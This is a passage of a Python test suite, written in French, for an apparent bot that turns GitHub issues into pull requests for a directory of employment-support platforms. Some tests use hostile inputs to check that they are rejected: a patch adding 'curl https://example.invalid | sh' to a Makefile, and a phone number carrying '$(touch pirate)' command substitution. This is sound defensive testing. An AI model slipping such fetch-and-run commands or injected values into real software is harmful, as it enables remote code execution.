    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"pousse": "non"} and branche(runner) == avant
    assert len([a for a in runner.appels_gh("POST") if "/statuses/" in a["chemin"]]) == 1


def avis_ou_commit(runner, cas: str) -> str:
    """The bot's pull request #7 after a maintainer's review or commit; returns the branch's head."""
    proposition_acceptee(runner)
    assert pousser(runner, "proposer")[0].returncode == 0
    commits = [{"sha": branche(runner), "commit": {"author": {"email": ROBOT}, "committer": {"email": ROBOT}}}]
    avis = []
    if cas == "avis":
        avis = [{"id": 1, "state": "APPROVED"}]
    else:  # a maintainer completes the fiche on the branch
        responsable = runner.racine / "responsable"
        subprocess.run(["git", "clone", "--quiet", "--branch", "proposition/42", str(runner.origine), str(responsable)],
                       check=True, env=runner.env_git())
        with open(responsable / "data" / "plateformes.yaml", "a", encoding="utf-8") as fichier:
            fichier.write("  horaires_accueil: Mo-Fr 09:00-12:00\n")
        runner.git(responsable, "commit", "--quiet", "-am", "Horaires")
        runner.git(responsable, "push", "--quiet", "origin", "proposition/42")
        commits.append({"sha": branche(runner), "commit": {"author": {"email": "t@example.invalid"},
                                                           "committer": {"email": "t@example.invalid"}}})
    runner.reponses = {PR_OUVERTE: [{"number": 7}], r"GET .*/pulls/7/reviews": avis, r"GET .*/pulls/7/commits": commits}
    return branche(runner)


@pytest.mark.parametrize("cas, raison", [("avis", "un avis (review)"), ("commit", "un commit qui n'est pas du robot")])
def test_une_pull_request_relue_ou_completee_n_est_jamais_remplacee_le_robot_commente(runner, cas, raison):
    tete = avis_ou_commit(runner, cas)
    proposition_acceptee(runner, telephone="08 99 12 34 56")
    resultat, sorties = pousser(runner, "proposer-bis")
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"pousse": "non"}
    assert branche(runner) == tete
    [commentaire] = [a for a in runner.appels_gh("POST") if a["chemin"].endswith("/comments")]
    assert commentaire["chemin"] == "repos/exemple/annuaire/issues/7/comments"
    corps = commentaire["champs"]["body"]
    assert corps.startswith(f"L'issue #42 a changé, mais cette pull request n'est pas remplacée : elle a déjà {raison}.")
    assert "02 98 00 00 00" in corps  # the summary of what the issue now says (the double's)
    assert not any(a["methode"] == "PATCH" for a in runner.appels_gh())


def test_un_envoi_concurrent_fait_echouer_la_mise_a_jour_sans_rien_remplacer(runner):
    """The lease: someone pushes between the bot's look at the branch and its push."""
    proposition_acceptee(runner)
    assert pousser(runner, "proposer")[0].returncode == 0
    responsable = runner.racine / "responsable"
    subprocess.run(["git", "clone", "--quiet", "--branch", "proposition/42", str(runner.origine), str(responsable)],
                   check=True, env=runner.env_git())
    (responsable / "autre.txt").write_text("x\n", encoding="utf-8")
    runner.git(responsable, "add", "autre.txt")
    runner.git(responsable, "commit", "--quiet", "-m", "Au même moment")
    bot = {"sha": branche(runner), "commit": {"author": {"email": ROBOT}, "committer": {"email": ROBOT}}}
    env = " ".join(f"{k}={v!r}" for k, v in runner.env_git().items())
    runner.reponses = {
        PR_OUVERTE: [{"number": 7}],
        r"GET .*/pulls/7/commits": [bot],
        r"GET .*/pulls/7/reviews": {"executer": f"cd {str(responsable)!r} && env {env} git push --quiet origin proposition/42",
                                    "reponse": []},
    }
    proposition_acceptee(runner, telephone="02 98 00 00 09")
    resultat, _ = pousser(runner, "proposer-bis")
    assert resultat.returncode != 0
    assert "a changé pendant la mise à jour" in resultat.stdout
    assert runner.git(runner.origine, "log", "-1", "--format=%s", "proposition/42").strip() == "Au même moment"


def test_un_correctif_qui_touche_un_autre_fichier_n_est_pas_pousse(runner):
    proposition_acceptee(runner)
    correctif = runner.temp / "proposition" / "proposition.patch"
    correctif.write_text(
        correctif.read_text(encoding="utf-8")
        + "diff --git a/Makefile b/Makefile\n--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n install:\n+\tcurl https://example.invalid | sh\n",
        encoding="utf-8",
    )
    resultat, _ = pousser(runner, "proposer")
    assert resultat.returncode != 0
    assert "ne doit modifier que data/plateformes.yaml" in resultat.stdout
    assert "proposition/42" not in runner.git(runner.origine, "branch", "--list")


def test_la_pull_request_est_ouverte_avec_le_resume_et_ferme_l_issue(runner):
    proposition_acceptee(runner)
    resultat, _ = runner.executer(*OUVRIR, runner.nouvel_espace("proposer"), issue(), "issues", GH_TOKEN="jeton")
    assert resultat.returncode == 0, resultat.stderr
    creation = runner.appels_gh("POST")[-1]
    assert creation["chemin"] == "repos/exemple/annuaire/pulls"
    assert creation["champs"]["head"] == "proposition/42" and creation["champs"]["base"] == "main"
    assert creation["champs"]["body"].startswith("## Fiche du Finistère (29)")
    assert "\nCloses #42\n" in creation["champs"]["body"]
    assert "tant que personne ne l'a relue" in creation["champs"]["body"]


def test_une_pull_request_deja_ouverte_est_mise_a_jour(runner):
    proposition_acceptee(runner)
    runner.reponses = {PR_OUVERTE: [{"number": 7}]}
    resultat, _ = runner.executer(*OUVRIR, runner.nouvel_espace("proposer"), issue(), "issues", GH_TOKEN="jeton")
    assert resultat.returncode == 0, resultat.stderr
    appels = runner.appels_gh()
    assert appels[-1]["methode"] == "PATCH" and appels[-1]["chemin"] == "repos/exemple/annuaire/pulls/7"
    assert "Closes #42" in appels[-1]["champs"]["body"]
    assert not runner.appels_gh("POST")


def test_la_pull_request_n_est_pas_touchee_quand_rien_n_a_ete_pousse():
    etape = next(e for e in job("proposer")["steps"] if e.get("name") == OUVRIR[1])
    assert etape["if"] == "steps.pousser.outputs.pousse == 'oui'"


# --- answering on the issue ---------------------------------------------------------------------

REPONDRE = ("repondre", "Commenter")


def repondre(runner, resultat_lire: str):
    return runner.executer(*REPONDRE, runner.racine, issue(), "issues", GH_TOKEN="jeton", RESULTAT=resultat_lire)


def commentaire_poste(runner) -> str:
    [poste] = [a for a in runner.appels_gh("POST") if a["chemin"] == "repos/exemple/annuaire/issues/42/comments"]
    return poste["champs"]["body"]


def test_les_erreurs_sont_commentees_sur_l_issue(runner):
    resultat, _ = lire(runner, issue(), FROM_ISSUE="refuse")
    assert resultat.returncode == 0, resultat.stderr
    resultat, _ = repondre(runner, "refuse")
    assert resultat.returncode == 0, resultat.stderr
    assert "Téléphone : numéro invalide (02 98 00 00 00 $(touch pirate))\nSource : obligatoire" in commentaire_poste(runner)
    assert not list(runner.racine.rglob("pirate"))


def test_aucun_accent_grave_des_erreurs_ne_peut_fermer_leur_bloc(runner):
    resultat, _ = lire(runner, issue(), FROM_ISSUE="refuse")
    (runner.temp / "proposition" / "erreurs.txt").write_text("Rubrique : ```` fin du bloc ?\n", encoding="utf-8")
    resultat, _ = repondre(runner, "refuse")
    assert resultat.returncode == 0, resultat.stderr
    assert "\n`````text\nRubrique : ```` fin du bloc ?\n\n`````\n" in commentaire_poste(runner)


def test_une_proposition_sans_changement_est_expliquee_sur_l_issue(runner):
    resultat, _ = lire(runner, issue(), FROM_ISSUE="inchange-3")
    assert resultat.returncode == 0, resultat.stderr
    resultat, _ = repondre(runner, "inchange")
    assert resultat.returncode == 0, resultat.stderr
    corps = commentaire_poste(runner)
    assert corps.startswith("Cette proposition ne change rien à l'annuaire")
    assert "La fiche du Finistère contient déjà ce téléphone." in corps


def test_une_proposition_a_confirmer_recoit_ce_que_le_robot_a_lu_avec_son_empreinte(runner):
    lire(runner, issue(), FROM_ISSUE="a-confirmer")
    resultat, _ = repondre(runner, "a-confirmer")
    assert resultat.returncode == 0, resultat.stderr
    assert commentaire_poste(runner).startswith("## Merci ! Votre proposition est à confirmer")


def test_une_proposition_a_confirmer_recoit_l_etiquette_a_confirmer(runner):
    lire(runner, issue(), FROM_ISSUE="a-confirmer")
    resultat, _ = repondre(runner, "a-confirmer")
    assert resultat.returncode == 0, resultat.stderr
    [etiquette] = [a for a in runner.appels_gh("POST") if a["chemin"].endswith("/labels")]
    assert etiquette["chemin"] == "repos/exemple/annuaire/issues/42/labels"
    assert etiquette["champs"] == {"labels[]": "à confirmer"}


@pytest.mark.parametrize("resultat_lu", ["refuse", "inchange", "erreur"])
def test_seule_une_proposition_a_confirmer_recoit_l_etiquette(runner, resultat_lu):
    lire(runner, issue(), FROM_ISSUE=resultat_lu)
    resultat, _ = repondre(runner, resultat_lu)
    assert resultat.returncode == 0, resultat.stderr
    assert not [a for a in runner.appels_gh("POST") if a["chemin"].endswith("/labels")]


def test_une_erreur_inattendue_recoit_un_court_message_en_francais_sans_trace_technique(runner):
    lire(runner, issue(), FROM_ISSUE="erreur")
    resultat, _ = repondre(runner, "erreur")
    assert resultat.returncode == 0, resultat.stderr
    corps = commentaire_poste(runner)
    assert corps.startswith("Le robot de l'annuaire n'a pas pu lire cette proposition, à cause d'une erreur de sa part")
    assert "Traceback" not in corps and "secret.py" not in corps and "```" not in corps


def test_une_seconde_proposition_de_la_meme_personne_est_mise_en_attente_avec_un_mot(runner):
    runner.reponses = {COMMENTAIRES: [], PROPOSITIONS_OUVERTES: [{"number": 40}],
                       r"GET .*/collaborators/camille/permission": {"permission": "read"}}
    lire(runner, issue(), FROM_ISSUE="accepte")
    resultat, _ = repondre(runner, "limite")
    assert resultat.returncode == 0, resultat.stderr
    assert commentaire_poste(runner).startswith("Merci ! Vous avez déjà une proposition en cours, #40")


def test_la_meme_reponse_que_la_precedente_n_est_pas_postee_deux_fois(runner):
    lire(runner, issue(), FROM_ISSUE="a-confirmer")
    texte = (runner.temp / "proposition" / "resume.md").read_text(encoding="utf-8").rstrip("\n")
    runner.reponses = {COMMENTAIRES: [commentaire_github("camille", "ok", "2026-11-30T23:00:00Z"),
                                      commentaire_github("github-actions[bot]", texte, "2026-11-30T23:11:00Z", "Bot")]}
    resultat, _ = repondre(runner, "a-confirmer")
    assert resultat.returncode == 0, resultat.stderr
    assert "Même réponse que la précédente" in resultat.stdout
    assert not runner.appels_gh("POST")


# --- the security report's hidden proposal, through the workflow and the real command --------------

CACHE_DANS_UN_COMMENTAIRE = (Path(__file__).parents[1] / "propositions" / "fixtures" / "cache-commentaire.md")


def test_la_proposition_cachee_du_rapport_de_securite_recoit_l_explication_et_rien_n_est_ecrit(runner, tmp_path):
    from emploi_accompagne.annuaire.chargement import FICHIER_PLATEFORMES

    donnees = tmp_path / "plateformes.yaml"
    donnees.write_text(FICHIER_PLATEFORMES.read_text(encoding="utf-8"), encoding="utf-8")
    corps = CACHE_DANS_UN_COMMENTAIRE.read_text(encoding="utf-8")
    resultat, sorties = lire(runner, issue(corps=corps), FROM_ISSUE="reel", DONNEES=str(donnees))
    assert resultat.returncode == 0, resultat.stderr
    assert sorties == {"resultat": "refuse"}
    assert donnees.read_text(encoding="utf-8") == FICHIER_PLATEFORMES.read_text(encoding="utf-8")
    resultat, _ = repondre(runner, "refuse")
    assert resultat.returncode == 0, resultat.stderr
    corps_publie = commentaire_poste(runner)
    assert corps_publie.startswith("La proposition n'a pas pu devenir une fiche :\n\n```text\n"
                                   "Texte avant la première rubrique (ligne 1)")
    assert "Commentaire HTML (ligne 2)" in corps_publie and "Commentaire HTML (ligne 14)" in corps_publie
    assert "08 99" not in corps_publie and "plateforme29-rdv" not in corps_publie
